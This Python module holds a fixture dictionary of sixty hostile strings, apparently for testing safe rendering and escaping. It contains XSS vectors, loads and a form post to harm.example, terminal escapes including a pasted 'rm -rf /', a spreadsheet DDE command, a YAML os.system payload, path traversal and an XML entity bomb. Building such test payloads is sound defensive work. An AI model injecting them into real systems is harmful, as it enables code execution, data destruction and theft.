"""Sixty texts that mean harm, by what each would do where somebody shows it without care.

Those that can act on a page do it by setting `harm` or by asking harm.example for something.
"""

from __future__ import annotations

_FLOOD = "".join(map(chr, range(0x300, 0x340)))

PAYLOADS: dict[str, str] = {
    # Markup and script.
    "script": "<script>window.harm=1</script>",
    "script after a break-out": '"><script>window.harm=2</script>',
    "image that fails": "<img src=x onerror=window.harm=3>",
    "closing what it stands in": "</title></style></desc></svg></bdi><script>window.harm=4</script>",
    "attribute, double quotes": '" onfocus="window.harm=5" autofocus="" tabindex="1',
    "attribute, single quotes": "' onmouseover='window.harm=6' style='position:fixed;inset:0",
    "frame": "<iframe srcdoc='<script>parent.harm=7</script>'></iframe>",
    "vector image": "<svg onload=window.harm=8><circle r=9></svg>",
    "foreign object": "<svg><foreignObject><body onload=window.harm=9></body></foreignObject></svg>",
    "use": "<svg><use href='https://harm.example/x.svg#a'/><image href='https://harm.example/y.png'/></svg>",
    "animation": "<svg><animate attributeName=href onbegin=window.harm=10 values=javascript:window.harm=10></svg>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://harm.example/">',
    "base": "<base href='https://harm.example/'><a href='x'>here</a>",
    "style": "<style>@import url(https://harm.example/a.css);*{background:url(https://harm.example/b)}</style>",
    "expression": "x:expression(window.harm=11);background:url(javascript:window.harm=11)",
    "style sheet's end": "}</style><link rel=stylesheet href=https://harm.example/c.css>{",
    "address that runs": "javascript:window.harm=12//",
    "address that is a page": "data:text/html,<script>window.harm=13</script>",
    "form": "<form action=https://harm.example/><button autofocus>ok</button></form>",
    "named element": "<a id=report name=body>clobbered</a><a id=C1>another</a>",
    "details": "<details open ontoggle=window.harm=14><summary>s</summary></details>",
    "comment": "--><!--><script>window.harm=15</script><!--",
    "character data": "]]><![CDATA[<script>window.harm=16</script>]]>",
    "entities": "&lt;script&gt; &#60;b&#62; &quot; &amp;amp; &NotEqualTilde; &#x202e;",
    "entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "template": "{{ 7*7 }} {% for x in range(9) %}z{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {{config}}",
    # Markdown.
    "links": "[click](javascript:window.harm=17) [ref]: https://harm.example/ [ref]",
    "image": "![alt](https://harm.example/a.png 'title') ![][ref]",
    "block of html": "\n\n<div onclick=window.harm=18>\n\n<script>window.harm=18</script>\n\n</div>\n\n",
    "fences": "``` ~~~ `` ` ```html\n<script>window.harm=19</script>\n```",
    "table": "| a | b |\n|---|---|\n| \\| c | d |\\",
    "footnotes": "text[^1] and\n\n[^1]: https://harm.example/note",
    "links by themselves": "<https://harm.example/a> https://harm.example/b www.harm.example x@harm.example",
    "mentions": "@everyone @acme/owners fixes #1 closes acme/other#2 GH-3",
    "headings and rules": "# one\n\n---\n\n> two\n\n- [ ] three\n\n1. four\n===",
    "emphasis": "**bold** __bold__ *it* _it_ ~~no~~ \\*\\* a*b*c",
    # Terminals.
    "colours": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m",
    "clearing": "kept\x1b[2J\x1b[H\x1b[3Jgone",
    "title, told back": "\x1b]0;owned\x07\x1b[21t\x1b]2;owned\x1b\\",
    "link of a terminal": "\x1b]8;;https://harm.example/\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aGFybQ==\x07pasted",
    "asking back": "\x1b[c\x1b[6n\x1b[5n\x1b[>c\x05",
    "device control": "\x1bP+q544e\x1b\\ \x1bP1$r0m\x1b\\ \x1b_app\x1b\\ \x1b^pm\x1b\\",
    "eight bit": "\x9b2J\x9d0;owned\x9c\x90q\x9c\x85next\x8dup",
    "pasting": "\x1b[200~rm -rf /\x1b[201~\x1b[?2004h",
    "another screen": "\x1b[?1049h\x1b[?25l\x1b[?1000hmouse",
    "cursor": "begin\x1b[99A\x1b[99D\x1b[Kover\rwrite\x08\x08\x0b\x0c\x1bM\x1bc",
    # Letters.
    "overrides": "safe \u202egnp.exe\u202c \u202dleft\u202c \u200f\u200e\u061c",
    "isolates": "\u2066left \u2067right \u2068first\u2069 and never closed \u202b",
    "no width": "pay\u200bp\u200ca\u200dl\u2060 \ufeff soft\u00adhyphen \u180e\u3164\u2800 end",
    "flood of accents": f"Z{_FLOOD}a{_FLOOD}l{_FLOOD}go",
    "halves": "half \ud800 other \udfff byte \udcff\udc9b none \ufffe \U000e0041\U000e007f",
    "nothing": "before\x00after \x7f \x1c\x1d\x1e\x1f end",
    "a very long word": "Donaudampfschifffahrt" * 40,
    "right to left": "\u05e9\u05dc\u05d5\u05dd (a) \u0645\u0631\u062d\u0628\u0627 [b] 12 \u05e2\u05d5\u05dc\u05dd.",
    # Spreadsheets, documents, files.
    "formula": '=HYPERLINK("https://harm.example/","here")',
    "formulas": "+1+1 \n-2+3 \n@SUM(A1:A9) \n\t=1 \n＝1+1",
    "command of a spreadsheet": "=cmd|' /C calc'!A0",
    "document": ") /URI (https://harm.example/) /S /JavaScript /JS (app.alert\\(1\\)) /Launch /OpenAction >> endobj",
    "file and document": "../../etc/pass\nwd: {a: [!!python/object/apply:os.system [id]], \"b\": 'c' }\n--- %TAG ! x",
}
